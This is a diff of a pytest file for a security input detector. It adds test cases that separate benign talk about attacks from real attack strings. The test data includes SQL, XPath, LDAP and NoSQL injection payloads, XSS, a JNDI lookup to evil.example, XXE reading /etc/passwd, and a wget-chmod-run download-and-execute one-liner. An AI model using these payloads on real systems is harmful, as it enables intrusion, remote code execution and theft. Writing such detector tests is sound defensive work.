@@ -4,7 +4,7 @@ import pytest
 
 from worker.security.detect.table import Detectors
 from worker.security.detect.talk import has_words, is_note, is_set_off, is_spoken, is_talk, is_worded
-from worker.security.detect.whole import is_code, is_command_line, is_document, is_logged, is_statement
+from worker.security.detect.whole import is_code, is_command_line, is_document, is_record, is_statement
 
 THRESHOLD = 5
 
@@ -69,7 +69,9 @@ def test_each_measure_of_talk_takes_in_the_narrower_one() -> None:
         ('String sql = "SELECT 1";', True), ("$id = $_GET['id'];", True), ("console.log('a' + b)", True),
         ('=COUNTIFS(A:A,"<>",B:B,"=1")', True), ("if (a && b) { c(); }", True),
         ("{ users(id: 1) { id } }", True),
-        ("s/'/''/g", True), ("' or 1=1", False), ("if(now()=sysdate(),sleep(5),0)", False), ("1=1", False),
+        ("s/'/''/g", True),
+        ("(?:'|\")(\\w+)", True), ("```sql\nx", True), ("' or 1=1", False),
+        ("if(now()=sysdate(),sleep(5),0)", False), ("1=1", False),
     ],
 )  # fmt: skip
 def test_a_program_is_known_by_how_its_first_line_begins(text: str, is_one: bool) -> None:
@@ -80,12 +82,14 @@ def test_a_program_is_known_by_how_its_first_line_begins(text: str, is_one: bool
     ("text", "is_one"),
     [
         ('203.0.113.9 - - [15/Mar/2024:10:30:00 +0100] "GET /?id=1%27 HTTP/1.1" 403 199', True),
-        ("Mar 12 06:25:01 web CRON[1]: (root) CMD (a || b)", True), ("2024-03-12 06:25:14 ERROR x", True),
+        ("Mar 12 06:25:01 web CRON[1]: (root) CMD (a || b)", True),
+        ("diff --git a/x b/x\n-a", True), ("--- a\n+++ b\n@@ -1 +1 @@", True), ("--- a", False),
+        ("2024-03-12 06:25:14 ERROR x", True),
         ("203.0.113.9; id", False), ("2024-03-12", False),
     ],
 )  # fmt: skip
-def test_a_log_is_known_by_how_its_entries_begin(text: str, is_one: bool) -> None:
-    assert is_logged(text.encode()) is is_one
+def test_a_record_is_known_by_how_logs_and_diffs_begin(text: str, is_one: bool) -> None:
+    assert is_record(text.encode()) is is_one
 
 
 def test_whole_statements_and_command_lines_are_no_pieces() -> None:
@@ -113,6 +117,13 @@ def test_whole_statements_and_command_lines_are_no_pieces() -> None:
         "The log contained ${jndi:ldap://...} and nothing else",
         "Replace os.system(cmd) with subprocess.run(cmd)",
         "upstream a { server b; }\nserver { listen 443 ssl; }",
+        "ログイン画面で「' OR 1=1」と入力されたログがあります。",
+        "xpath //*[text()='a']",
+        "ldap filter (&(a=b)(c=d))",
+        "const user = await User.findOne({ $or: [{ email }, { name }] });",
+        "RUN apt-get update && rm -rf /var/lib/apt/lists/*",
+        "<?php tag missing",
+        "<script[^>]*>.*?</script>",
         "An XXE happens if the parser resolves <!ENTITY x SYSTEM \"file:///etc/passwd\">; turn DTDs off.",
     ],
 )  # fmt: skip
@@ -126,6 +137,8 @@ def test_what_people_write_about_attacks_passes(detectors: Detectors, text: str)
         "shoes' or 1=1 -- ", '" or 1=1 or "', "name' and sleep(5)#", "x; cat /etc/hosts", "/etc/hosts",
         "http://10.0.0.1/", "__proto__[x]", "${jndi:ldap://evil.example/a}", "a && whoami",
         "file:////etc/passwd", "x\r\nServer: evil", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+        "for $x in //user return $x/password", "admin)(&)", "' || this.a == 'b", "1\nUNION\nSELECT\n1,2",
+        "<?php echo 'x'; ?>", "<script >alert(1)</script>",
         "a@b.example\nSubject: You have won a prize, and it is yours",
         "cd /tmp; wget http://198.51.100.4/x; chmod 777 x; sh x",
     ],
